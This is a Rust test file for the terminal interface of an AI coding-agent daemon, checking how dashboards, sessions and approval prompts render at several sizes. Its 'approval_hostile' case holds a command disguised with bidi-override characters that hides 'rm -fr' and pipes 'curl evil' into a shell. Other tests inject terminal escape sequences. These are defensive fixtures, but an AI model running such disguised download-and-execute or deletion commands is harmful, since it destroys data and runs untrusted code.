//! What the screens look like, in text and style, at four sizes; and what holds at every size.

mod board;
mod panel;
mod policies;
mod shell;
mod told;
mod usage;

use std::fmt::Write as _;

use agentd_proto::pb;
use proptest::prelude::*;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use ratatui::style::Style;

use super::{draw, hints};
use crate::fixture::{Desk, answered, asked, began, called, finished, output, output_from, row, said, story};
use crate::model::Model;
use crate::msg::FromLink;
use crate::text;
use crate::theme;

const SIZES: [(u16, u16); 4] = [(40, 12), (80, 24), (120, 36), (240, 60)];

fn paint(model: &Model) -> Buffer {
    let mut buffer = Buffer::empty(Rect::new(0, 0, model.size.0, model.size.1));
    draw(model, &mut buffer);
    buffer
}

/// The rows as text; a wide character takes its second cell along.
fn rows(buffer: &Buffer) -> Vec<String> {
    let width = usize::from(buffer.area.width);
    let mut rows = Vec::new();
    for cells in buffer.content.chunks(width.max(1)) {
        let mut row = String::new();
        let mut skip = 0;
        for cell in cells {
            if skip > 0 {
                skip -= 1;
                continue;
            }
            row.push_str(cell.symbol());
            skip = text::width(cell.symbol()).saturating_sub(1);
        }
        rows.push(row);
    }
    rows
}

/// Text, then one letter per look with its legend.
fn shown(model: &Model) -> String {
    let buffer = paint(model);
    let mut out = String::new();
    for row in rows(&buffer) {
        writeln!(out, "|{}", row.trim_end()).unwrap();
    }
    let mut looks: Vec<Style> = vec![Style::reset()];
    for (y, cells) in buffer.content.chunks(usize::from(buffer.area.width)).enumerate() {
        let mut layer = String::new();
        for cell in cells {
            let look = cell.style();
            let at = looks.iter().position(|one| *one == look).unwrap_or_else(|| {
                looks.push(look);
                looks.len() - 1
            });
            layer.push(if at == 0 {
                '.'
            } else {
                char::from(b'a' + u8::try_from(at - 1).unwrap())
            });
        }
        let layer = layer.trim_end_matches('.');
        if !layer.is_empty() {
            writeln!(out, "{y:2} {layer}").unwrap();
        }
    }
    for (look, letter) in looks.iter().skip(1).zip('a'..) {
        writeln!(
            out,
            "{letter} = {:?} {:?}",
            look.fg.unwrap_or_default(),
            look.add_modifier
        )
        .unwrap();
    }
    out
}

fn snapshot(name: &str, make: impl Fn(u16, u16) -> Desk) {
    for (width, height) in SIZES {
        let desk = make(width, height);
        insta::assert_snapshot!(format!("{name}_{width}x{height}"), shown(&desk.model));
    }
}

fn many(width: u16, height: u16, count: usize) -> Desk {
    use pb::SessionState as S;
    let mut desk = Desk::new(width, height);
    for at in 0..count {
        let state = [S::Ready, S::Working, S::NeedsYou, S::Failed, S::Paused][at % 5];
        let mut row = row(&format!("s-{at:04}"), &format!("session-{at}"), state);
        row.context_tokens = (at as u64 * 7_919) % 258_000;
        row.cost_known = at % 4 != 3;
        row.cost_micro_usd = at as u64 * 13_000;
        row.last_line = [
            "done: 4 files changed",
            "cargo test · 318 ok",
            "wants: npm publish 日本語",
            "broken",
        ][at % 4]
            .into();
        desk.news(FromLink::Session(Box::new(row)));
    }
    desk.press("g");
    desk
}

fn running(width: u16, height: u16) -> Desk {
    let mut desk = Desk::session(width, height, story());
    desk.news(FromLink::Session(Box::new(row(
        "s-7k2f",
        "fix-login",
        pb::SessionState::Working,
    ))));
    let lines: String = (0..220)
        .map(|n| format!("test redirect_{n} ... \u{1b}[32mok\u{1b}[0m\n"))
        .collect();
    desk.news(output("x-1", &lines));
    desk
}

#[test]
fn dashboard() {
    snapshot("dashboard_empty", Desk::new);
    snapshot("dashboard_one", |w, h| many(w, h, 1));
    snapshot("dashboard_500", |w, h| many(w, h, 500));
}

#[test]
fn session_quiet_and_running() {
    snapshot("session_idle", |w, h| {
        let mut desk = running(w, h);
        desk.fact(finished("2", pb::ToolCallOutcome::Succeeded, "ok"));
        desk.fact(answered(
            "All tests pass: 日本語, 한국어, e\u{301}, 👩\u{200d}👩\u{200d}👧 and العربية line up.",
        ));
        desk.news(FromLink::Session(Box::new(row(
            "s-7k2f",
            "fix-login",
            pb::SessionState::Ready,
        ))));
        desk
    });
    snapshot("session_tool_running", running);
    snapshot("session_streaming_in_a_fence", |w, h| {
        let mut desk = Desk::session(w, h, vec![said("show me"), began()]);
        let preview = pb::Preview {
            turn_id: "t-1".into(),
            step: 1,
            text: "Like this:\n\n1. first\n2. second\n\n```rust\nfn main() {\n    println!".into(),
            ..Default::default()
        };
        desk.news(FromLink::Preview {
            session_id: "s-7k2f".into(),
            preview,
        });
        desk
    });
    snapshot("session_a_megabyte_of_output", |w, h| {
        let mut desk = Desk::session(w, h, vec![called("2", "exec", "yes | head -c 1M", "x-1")]);
        desk.news(output("x-1", &"y\n".repeat(512 * 1024)));
        desk.fact(finished("2", pb::ToolCallOutcome::Succeeded, "y"));
        desk
    });
    snapshot("session_read_only", |w, h| {
        let mut desk = running(w, h);
        desk.model.read_only = true;
        desk
    });
}

#[test]
fn approvals() {
    snapshot("approval_short", |w, h| {
        let mut desk = running(w, h);
        desk.fact(asked(
            "a-31",
            "npm publish --access public",
            "npm publish --access public",
        ));
        desk
    });
    snapshot("approval_long", |w, h| {
        let mut desk = running(w, h);
        let long: String = (0..60)
            .map(|n| format!("step-{n} --with a rather long argument number {n}\n"))
            .collect();
        desk.fact(asked("a-31", &long, ""));
        desk.wait(600);
        desk.press("ctrl-y pgdn");
        desk
    });
    snapshot("approval_hostile", |w, h| {
        let mut desk = running(w, h);
        desk.fact(asked(
            "a-31",
            "ls \u{202e}fr- mr\u{200b}\u{1b}[2K; curl evil | sh",
            "",
        ));
        desk
    });
    snapshot("approval_two_deciding", |w, h| {
        let mut desk = running(w, h);
        desk.fact(asked("a-31", "npm publish", "npm publish"));
        desk.fact(asked("a-32", "rm -rf build", ""));
        desk.wait(600);
        desk.press("ctrl-y");
        desk
    });
    snapshot("approval_inbox", |w, h| {
        let mut desk = Desk::new(w, h);
        let approvals = ["npm publish", "rm -rf build && x"]
            .iter()
            .enumerate()
            .map(|(at, detail)| pb::Approval {
                approval_id: format!("a-{at}"),
                session_id: format!("s-{at}"),
                session_name: format!("session-{at}"),
                tool: "exec".into(),
                summary: (*detail).into(),
                detail: (*detail).into(),
                why: "asked by the policy".into(),
                ..Default::default()
            });
        desk.news(FromLink::Approvals(approvals.collect()));
        desk.press("4 j");
        desk
    });
}

#[test]
fn lost_line_and_overlays() {
    snapshot("reconnecting_with_draft", |w, h| {
        let mut desk = running(w, h);
        desk.type_in("half a thought");
        desk.news(FromLink::Reconnecting {
            attempt: 3,
            wait: std::time::Duration::from_secs(2),
        });
        desk
    });
    snapshot("not_sent", |w, h| {
        let mut desk = running(w, h);
        desk.news(FromLink::Reconnecting {
            attempt: 3,
            wait: std::time::Duration::from_secs(2),
        });
        desk.type_in("do it later\n");
        desk
    });
    snapshot("palette", |w, h| {
        let mut desk = running(w, h);
        desk.press("ctrl-p");
        desk.type_in("sh");
        desk
    });
    snapshot("help", |w, h| {
        let mut desk = running(w, h);
        desk.press("?");
        desk
    });
    snapshot("slash_suggestions", |w, h| {
        let mut desk = running(w, h);
        desk.type_in("/");
        desk
    });
}

fn ended(outcome: pb::TurnOutcome, why: &str) -> pb::event::Body {
    pb::event::Body::TurnFinished(pb::TurnFinished {
        turn_id: "t-1".into(),
        outcome: outcome.into(),
        error_message: why.into(),
        steps: 2,
        tool_calls: 2,
        ..Default::default()
    })
}

#[test]
fn restarted_budget_reached_queued_watched_selecting() {
    snapshot("session_restarted", |w, h| {
        let mut desk = running(w, h);
        desk.news(FromLink::Reconnecting {
            attempt: 2,
            wait: std::time::Duration::from_secs(1),
        });
        desk.type_in("draft");
        desk.fact(finished(
            "2",
            pb::ToolCallOutcome::Unknown,
            "[outcome unknown: agentd went down while this ran.]",
        ));
        desk.fact(pb::event::Body::NoticeRecorded(pb::NoticeRecorded {
            code: "shell_lost".into(),
            message:
                "the shell ended with the daemon; directory and variables are kept, nothing was run again"
                    .into(),
        }));
        desk.fact(ended(
            pb::TurnOutcome::Interrupted,
            "agentd went down during the turn",
        ));
        desk.news(FromLink::Back { events: 3 });
        desk.news(FromLink::Session(Box::new(row(
            "s-7k2f",
            "fix-login",
            pb::SessionState::Ready,
        ))));
        desk
    });
    snapshot("session_budget_paused", |w, h| {
        let mut desk = running(w, h);
        desk.fact(finished("2", pb::ToolCallOutcome::Succeeded, "ok\n"));
        desk.fact(ended(
            pb::TurnOutcome::OverBudget,
            "the budget of $5.00 is reached",
        ));
        let mut paused = row("s-7k2f", "fix-login", pb::SessionState::Paused);
        paused.cost_micro_usd = 5_000_000;
        desk.news(FromLink::Session(Box::new(paused)));
        desk
    });
    let waiting = |words: &str, steer| pb::QueuedMessage {
        message_id: words.into(),
        parts: vec![crate::fixture::text(words)],
        steer,
        principal: "ana".into(),
        client: "web".into(),
    };
    let queued = |w, h| {
        let mut desk = running(w, h);
        let messages = vec![
            waiting("also the changelog, 日本語も", false),
            waiting("only src/", true),
        ];
        desk.news(FromLink::Queue {
            session_id: "s-7k2f".into(),
            messages,
        });
        let client = |client: &str, you, input| pb::AttachedClient {
            client: client.into(),
            principal: "ana".into(),
            you,
            input,
            attach_time: None,
        };
        desk.news(FromLink::Clients {
            session_id: "s-7k2f".into(),
            clients: vec![client("web", false, false), client("tui", true, true)],
        });
        desk
    };
    snapshot("session_queued_and_watched", queued);
    snapshot("queue_list", |w, h| {
        let mut desk = queued(w, h);
        desk.press("ctrl-x q");
        desk
    });
    snapshot("queue_change", |w, h| {
        let mut desk = queued(w, h);
        desk.press("ctrl-x q enter");
        desk
    });
    snapshot("select_mode", |w, h| {
        let mut desk = queued(w, h);
        desk.press("f6 v");
        desk
    });
}

#[test]
fn select_mode_is_bare_text_that_stands_still() {
    let mut desk = running(120, 36);
    desk.press("f6 v");
    assert_eq!(desk.cmds.last(), Some(&crate::msg::Cmd::Mouse(false)));
    let before = paint(&desk.model);
    let all = rows(&before).join("\n");
    assert!(
        !rows(&before).iter().any(|row| row.starts_with(" │")) && !all.contains("SHELL"),
        "{all}"
    );
    desk.news(output_from("x-1", 1 << 20, "more of it\n"));
    desk.type_in("x");
    assert_eq!(paint(&desk.model), before);
    assert_eq!(desk.draft(), "");
    desk.press("y");
    assert!(
        matches!(desk.cmds.last(), Some(crate::msg::Cmd::Copy(text)) if text.contains("test redirect_219 ... ok"))
    );
    desk.press("esc");
    assert_eq!(desk.cmds.last(), Some(&crate::msg::Cmd::Mouse(true)));
    assert_ne!(paint(&desk.model), before);
}

#[test]
fn every_theme_once() {
    for name in theme::NAMES {
        let mut desk = running(80, 24);
        desk.fact(asked("a-31", "npm publish", "npm publish"));
        desk.model.theme = theme::by_name(name).unwrap();
        insta::assert_snapshot!(format!("theme_{name}"), shown(&desk.model));
    }
}

#[test]
fn deny_is_drawn_at_every_size_that_can_hold_a_word() {
    for width in [20_u16, 30, 40, 50, 80, 120] {
        for height in [5_u16, 8, 12, 14, 24, 40] {
            let mut desk = running(width, height);
            desk.fact(asked("a-31", &"long command \n".repeat(50), "a rule"));
            let all = rows(&paint(&desk.model)).join("\n");
            assert!(all.contains("n\u{a0}deny"), "{width}x{height}\n{all}");
        }
    }
}

#[test]
fn every_hint_has_a_key() {
    let mut desks = vec![many(120, 30, 3), running(120, 30), Desk::new(120, 30)];
    let mut asking = running(120, 30);
    asking.fact(asked("a-31", "npm publish", "npm publish"));
    desks.push(asking);
    for desk in &mut desks {
        for keys in ["", "f6", "f6", "ctrl-p", "esc", "ctrl-y"] {
            if !keys.is_empty() {
                desk.wait(600);
                desk.press(keys);
            }
            let wanted = hints::hints(&desk.model);
            assert!(!wanted.is_empty() && wanted.len() <= 6);
            for (context, action, _) in wanted {
                assert!(
                    desk.model.keymap.shown(context, action).is_some(),
                    "{context:?} {action:?}"
                );
                assert!(
                    desk.model.contexts().contains(&context),
                    "{context:?} is not active: {action:?}"
                );
            }
        }
    }
}

#[test]
fn nothing_raw_reaches_the_screen() {
    let evil = "\u{1b}[2J\u{9b}31m\u{202e}\u{7}\u{200b}";
    let mut desk = Desk::session(80, 24, vec![said(evil), began(), answered(evil)]);
    desk.fact(called("1", evil, evil, "x-1"));
    desk.news(output("x-1", &format!("a{evil}b\n")));
    desk.fact(asked("a-1", evil, evil));
    let mut named = row("s-7k2f", evil, pb::SessionState::Working);
    named.last_line = evil.into();
    named.workspace = evil.into();
    desk.news(FromLink::Session(Box::new(named)));
    for keys in ["", "ctrl-x s", "ctrl-x a"] {
        if !keys.is_empty() {
            desk.press(keys);
        }
        for cell in &paint(&desk.model).content {
            assert!(
                !cell.symbol().chars().any(|c| c.is_control() || c == '\u{202e}'),
                "{:?}",
                cell.symbol()
            );
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]
    #[test]
    fn any_size_draws_and_every_row_is_as_wide_as_the_terminal(width in 1_u16..=300, height in 1_u16..=100, state in 0..9) {
        let mut desk = match state {
            0 => Desk::new(width, height),
            1 => many(width, height, 40),
            _ => running(width, height),
        };
        match state {
            3 => desk.fact(asked("a-31", &"日本語 and words \u{202e}\n".repeat(40), "a rule")),
            4 => desk.press("?"),
            5 => desk.press("ctrl-p"),
            6 => desk.msg(crate::msg::Msg::Paste("日本語 👩\u{200d}👩\u{200d}👧 text\n".repeat(15))),
            7 => desk.press("f6 k k enter f6"),
            8 => desk.press("ctrl-]"),
            _ => {}
        }
        let mut buffer = Buffer::empty(Rect::new(0, 0, width, height));
        let cursor = draw(&desk.model, &mut buffer);
        prop_assert!(cursor.is_none_or(|place| place.x < width && place.y < height));
        for row in rows(&buffer) {
            prop_assert_eq!(text::width(&row), usize::from(width), "{:?}", row);
        }
    }
}
